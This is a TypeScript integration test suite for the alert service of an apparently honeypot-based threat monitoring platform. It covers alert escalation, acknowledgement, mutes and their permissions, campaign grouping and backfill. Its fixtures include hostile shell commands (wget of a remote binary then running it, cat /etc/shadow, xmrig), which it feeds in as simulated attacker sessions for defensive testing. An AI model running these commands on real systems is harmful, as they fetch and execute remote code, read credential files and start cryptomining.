import type { Alert, AlertDetail, AlertMute, AlertPolicyState, Page } from '@eviltwin/contract'
import pg from 'pg'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { openFeed } from '../../testing/test-feed.js'
import { startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'
import { until } from '../../testing/until.js'

const HIGH = 'wget http://192.0.2.1/x; chmod 777 x; ./x'
const CRITICAL = `${HIGH}; crontab -l; cat /etc/shadow; xmrig`

describe.each(inject('postgresServers'))('alerts on $version', (server) => {
  let api: TestPlatform
  let token: string
  let next = 0
  beforeAll(async () => {
    api = await startTestPlatform(server)
    token = await api.login()
  })
  afterAll(() => api.close())

  const send = (event: object) =>
    api.send(JSON.stringify({ occurred_at: new Date().toISOString(), ...event }))
  const get = async <Answer>(path: string) => (await (await api.call(path, { as: token })).json()) as Answer
  const change = (path: string, method: string, body: unknown) =>
    api.call(path, { method, as: token, body: JSON.stringify(body) })
  /** A source that no other test uses. */
  const newSource = () => {
    next += 1
    return `203.0.113.${next}`
  }
  const attack = (source_ip: string, command = HIGH, session = 's') => send({ source_ip, session, command })
  const alertsOf = async (source_ip: string, count = 1, more = '') =>
    until(async () => {
      const { items } = await get<Page<Alert>>(`/alerts?src_ip=${source_ip}${more}`)
      return items.length >= count && items
    })

  test('a session that crosses to high raises one alert, and one more when it crosses to critical', async () => {
    const source = newSource()
    await send({ source_ip: source, session: 's', username: 'root', password: 'x' })
    await attack(source)
    const [alert] = await alertsOf(source)
    expect(alert).toMatchObject({
      kind: 'session',
      threat_level: 'high',
      source_ip: source,
      state: 'open',
      occurrence_count: 1,
      first_of_attacker: true,
      suppressed_by: null,
    })
    expect(alert?.reasons.map(({ name }) => name)).toContain('download_command')
    await attack(source, CRITICAL)
    const alerts = await alertsOf(source, 2)
    expect(alerts.map(({ threat_level }) => threat_level)).toEqual(['critical', 'high'])
    const logged = await until(() => {
      const lines = api.logged.filter(
        ({ message, source_ip }) => message === 'Alert queued' && source_ip === source,
      )
      return lines.length === 2 && lines
    })
    expect(logged[0]).toMatchObject({
      level: 'INFO',
      logger: 'backend.services.alert_manager',
      session_id: alert?.session_id,
      threat_level: 'high',
    })
  })

  test('a low session raises none', async () => {
    const [suppressed, loud] = [newSource(), newSource()]
    await send({ source_ip: suppressed, session: 's', username: 'root', password: 'x' })
    await attack(loud)
    await alertsOf(loud)
    expect((await get<Page<Alert>>(`/alerts?src_ip=${suppressed}`)).items).toEqual([])
  })

  test('an alert is acknowledged, assigned, commented and resolved, and remembers who did what', async () => {
    const source = newSource()
    await attack(source)
    const [{ id } = { id: '' }] = await alertsOf(source)
    const path = `/alerts/${id}`
    expect((await change(path, 'PATCH', { state: 'acknowledged', comment: 'looking' })).status).toBe(200)
    expect((await change(path, 'PATCH', { assignee: 'ADMIN' })).status).toBe(200)
    expect((await change(path, 'PATCH', { state: 'resolved' })).status).toBe(200)
    const alert = await get<AlertDetail>(path)
    expect(alert).toMatchObject({ state: 'resolved', assignee: 'admin' })
    expect(alert.history.map(({ actor, action, detail }) => [actor, action, detail])).toEqual([
      [null, 'raised', null],
      ['admin', 'acknowledged', null],
      ['admin', 'commented', 'looking'],
      ['admin', 'assigned', 'admin'],
      ['admin', 'resolved', null],
    ])
    expect((await change(path, 'PATCH', { state: 'resolved' })).status).toBe(200)
    expect((await get<AlertDetail>(path)).history).toHaveLength(5)
  })

  test('a change that makes no sense is refused', async () => {
    const source = newSource()
    await attack(source)
    const [{ id } = { id: '' }] = await alertsOf(source)
    expect((await change(`/alerts/${id}`, 'PATCH', {})).status).toBe(422)
    expect((await change(`/alerts/${id}`, 'PATCH', { assignee: 'nobody-of-that-name' })).status).toBe(422)
    expect((await change(`/alerts/${id}`, 'PATCH', { state: 'gone' })).status).toBe(422)
    expect(
      (await change('/alerts/00000000-0000-4000-8000-000000000000', 'PATCH', { state: 'open' })).status,
    ).toBe(404)
  })

  test('many alerts are acknowledged at once', async () => {
    const sources = [newSource(), newSource()]
    for (const source of sources) await attack(source)
    const ids = (await Promise.all(sources.map((source) => alertsOf(source)))).flat().map(({ id }) => id)
    const unknown = '00000000-0000-4000-8000-000000000000'
    const response = await change('/alerts/acknowledge', 'POST', { ids: [...ids, unknown] })
    expect(await response.json()).toEqual({ acknowledged: 2, unchanged: 0, unknown: [unknown] })
    const again = await change('/alerts/acknowledge', 'POST', { ids })
    expect(await again.json()).toEqual({ acknowledged: 0, unchanged: 2, unknown: [] })
    const { items } = await get<Page<Alert>>(`/alerts?state=acknowledged&src_ip=${sources[0]}`)
    expect(items.map(({ state }) => state)).toEqual(['acknowledged'])
  })

  test('the list is filtered and paged', async () => {
    const network = '198.51.100.0/24'
    for (const host of [1, 2, 3]) await attack(`198.51.100.${host}`)
    await alertsOf(network, 3)
    const first = await get<Page<Alert>>(`/alerts?src_ip=${network}&limit=2&count=true`)
    expect(first).toMatchObject({ total: 3 })
    const second = await get<Page<Alert>>(`/alerts?src_ip=${network}&limit=2&cursor=${first.next_cursor}`)
    expect([...first.items, ...second.items].map(({ source_ip }) => source_ip)).toEqual([
      '198.51.100.3',
      '198.51.100.2',
      '198.51.100.1',
    ])
    expect(second.next_cursor).toBeNull()
    expect((await get<Page<Alert>>(`/alerts?src_ip=${network}&threat_level=critical`)).items).toEqual([])
    expect((await api.call('/alerts?src_ip=nonsense', { as: token })).status).toBe(422)
  })

  test('a mute suppresses a source, with its reason, until it is ended; what it suppressed is counted', async () => {
    const source = newSource()
    const refused = await change('/alerts/mutes', 'POST', {
      source,
      reason: 'our own scanner',
      expires_at: '2020-01-01T00:00:00Z',
    })
    expect(refused.status).toBe(422)
    const mute = await change('/alerts/mutes', 'POST', { source, reason: 'our own scanner' })
    expect(mute.status).toBe(201)
    const { id } = (await mute.json()) as { id: string }
    await attack(source)
    const [suppressed] = await alertsOf(source, 1, '&suppressed=true')
    expect(suppressed).toMatchObject({
      suppressed_by: 'mute',
      suppressed_because: 'our own scanner (admin)',
    })
    const { suppressed_24h, mutes } = await get<AlertPolicyState>('/alerts/policy')
    expect(suppressed_24h.mute).toBeGreaterThan(0)
    expect(mutes.map((each) => each.id)).toContain(id)
    expect((await api.call(`/alerts/mutes/${id}`, { method: 'DELETE', as: token })).status).toBe(204)
    await attack(source, HIGH, 'another session')
    expect(await alertsOf(source)).toMatchObject([{ suppressed_by: null }])
  })

  describe('mutes', () => {
    const DAY_MS = 86_400_000
    const ahead = (days: number) => new Date(Date.now() + days * DAY_MS).toISOString()
    let analyst: string
    beforeAll(async () => {
      const password = 'lantern orchid glacier mosaic'
      await change('/users', 'POST', { username: 'ana', password, role: 'analyst' })
      analyst = await api.login('ana', password)
    })

    test.each([
      ['an address', { source: '198.51.100.1' }, 201, 201],
      ['a /16', { source: '10.0.0.0/16' }, 201, 201],
      ['a /15', { source: '10.0.0.0/15' }, 403, 201],
      ['all of IPv4', { source: '0.0.0.0/0' }, 403, 201],
      ['all of IPv4 on one sensor', { source: '0.0.0.0/0', sensor_id: 'cowrie-9' }, 403, 201],
      ['a /32 of IPv6', { source: '2001:db8::/32' }, 201, 201],
      ['a /31 of IPv6', { source: '2001:db8::/31' }, 403, 201],
      ['all of IPv6', { source: '::/0' }, 403, 201],
      ['a whole sensor', { sensor_id: 'cowrie-9' }, 403, 201],
      ['an address for 6 days', { source: '198.51.100.1', expires_at: ahead(6) }, 201, 201],
      ['an address for 8 days', { source: '198.51.100.1', expires_at: ahead(8) }, 403, 201],
      ['an address for 89 days', { source: '198.51.100.1', expires_at: ahead(89) }, 403, 201],
      ['an address for 91 days', { source: '198.51.100.1', expires_at: ahead(91) }, 422, 422],
    ])('of %s', async (_what, what, byAnalyst, byAdmin) => {
      for (const [as, expected] of [
        [analyst, byAnalyst],
        [token, byAdmin],
      ] as const) {
        const body = JSON.stringify({ reason: 'a test', ...what })
        const answer = await api.call('/alerts/mutes', { method: 'POST', as, body })
        expect(answer.status).toBe(expected)
        if (answer.status !== 201) continue
        const { id, expires_at } = (await answer.json()) as AlertMute
        expect(Date.parse(expires_at)).toBeLessThanOrEqual(Date.now() + 90 * DAY_MS)
        if (!('expires_at' in what))
          expect(Date.parse(expires_at)).toBeLessThanOrEqual(Date.now() + 7 * DAY_MS)
        // Whoever may mute may end a mute.
        expect((await api.call(`/alerts/mutes/${id}`, { method: 'DELETE', as: analyst })).status).toBe(204)
      }
    })

    test('are so many at once and no more', async () => {
      const client = new pg.Client({ connectionString: api.databaseUrl })
      await client.connect()
      await client.query(`INSERT INTO alert_mutes (id, source, reason, created_by, created_at, expires_at)
        SELECT gen_random_uuid(), '198.51.100.2', 'many', 'x', now(), now() + interval '1 day' FROM generate_series(1, 500)`)
      const add = () => change('/alerts/mutes', 'POST', { source: '198.51.100.3', reason: 'one more' })
      expect((await add()).status).toBe(409)
      await client.query(`UPDATE alert_mutes SET expires_at = now() WHERE reason = 'many'`)
      expect((await add()).status).toBe(201)
      await client.end()
    })
  })

  describe('by default', () => {
    const attacks = (sources: readonly string[], command = HIGH) =>
      api.send(
        JSON.stringify(
          sources.map((source_ip, n) => ({
            source_ip,
            session: `${command.length} ${n}`,
            command,
            occurred_at: new Date().toISOString(),
          })),
        ),
      )
    const announced = (source: string, occurrences: number) =>
      until(async () => {
        const { items } = await get<Page<Alert>>(`/alerts?src_ip=${source}`)
        return items.reduce((sum, { occurrence_count }) => sum + occurrence_count, 0) >= occurrences && items
      })

    test('500 sessions of one address are one alert with their count, and a more severe one has its own', async () => {
      expect((await get<AlertPolicyState>('/alerts/policy')).policy.campaign_grouping).toBe('source')
      const [source, other] = [newSource(), newSource()]
      await attacks(Array.from({ length: 500 }, () => source))
      expect(await announced(source, 500)).toMatchObject([{ occurrence_count: 500, source_count: 1 }])
      await attacks([source, other], CRITICAL)
      const [severe, first] = await announced(source, 501)
      expect([severe, first]).toMatchObject([
        { threat_level: 'critical', occurrence_count: 1 },
        { threat_level: 'high', occurrence_count: 500 },
      ])
      expect(await announced(other, 1)).toHaveLength(1)
      const suppressed = await get<Page<Alert>>(`/alerts?src_ip=${source}&suppressed=true&limit=2`)
      expect(suppressed.items.map(({ campaign_alert_id }) => campaign_alert_id)).toEqual([
        first?.id,
        first?.id,
      ])
    })

    test('the addresses of one /64 are one source, also those that come later', async () => {
      const block = '2001:db8:64:1'
      await attacks([`${block}::1`])
      await announced(`${block}::/64`, 1)
      await attacks([`${block}::2`, `${block}:ffff:ffff:ffff:ffff`, '2001:db8:64:2::1'])
      expect(await announced(`${block}::/64`, 3)).toMatchObject([{ occurrence_count: 3, source_count: 3 }])
      expect(await announced('2001:db8:64:2::/64', 1)).toHaveLength(1)
    })

    test('a resolved alert stands for nothing that follows', async () => {
      const source = newSource()
      await attacks([source])
      const [alert] = await announced(source, 1)
      await change(`/alerts/${alert?.id}`, 'PATCH', { state: 'resolved' })
      await attacks([source, source], `${HIGH}; id`)
      expect(await announced(source, 3)).toMatchObject([
        { state: 'open', occurrence_count: 2 },
        { state: 'resolved', occurrence_count: 1 },
      ])
    })
  })

  test('imported history is stored as backfill, and only its own list has it', async () => {
    const [old, live] = [newSource(), newSource()]
    await send({ source_ip: old, session: 's', command: HIGH, occurred_at: '2026-01-05T10:00:00Z' })
    await attack(live)
    await alertsOf(live)
    const [alert] = await alertsOf(old, 1, '&suppressed_by=backfill')
    expect(alert).toMatchObject({
      suppressed_by: 'backfill',
      occurred_at: expect.stringMatching(/^2026-01-05T10/),
    })
    expect((await get<Page<Alert>>(`/alerts?src_ip=${old}`)).items).toEqual([])
    const { suppressed_24h, policy } = await get<AlertPolicyState>('/alerts/policy')
    expect(suppressed_24h.backfill).toBeGreaterThanOrEqual(1)
    const longer = { ...policy, backfill_after_minutes: 525_600 }
    expect((await change('/alerts/policy', 'PUT', longer)).status).toBe(200)
    const later = newSource()
    await send({ source_ip: later, session: 's', command: HIGH, occurred_at: '2026-01-06T10:00:00Z' })
    expect(await alertsOf(later)).toMatchObject([{ suppressed_by: null }])
    expect((await change('/alerts/policy', 'PUT', policy)).status).toBe(200)
  })

  test('an alert outlives the process that raised it', async () => {
    const source = newSource()
    await attack(source)
    const [alert] = await alertsOf(source)
    const replica = await startTestPlatform(server, { beside: api })
    const feed = await openFeed(replica, await replica.login(), '0')
    await until(() => feed.alerts().find(({ id }) => id === alert?.id))
    await feed.close()
    await replica.close()
  })
})
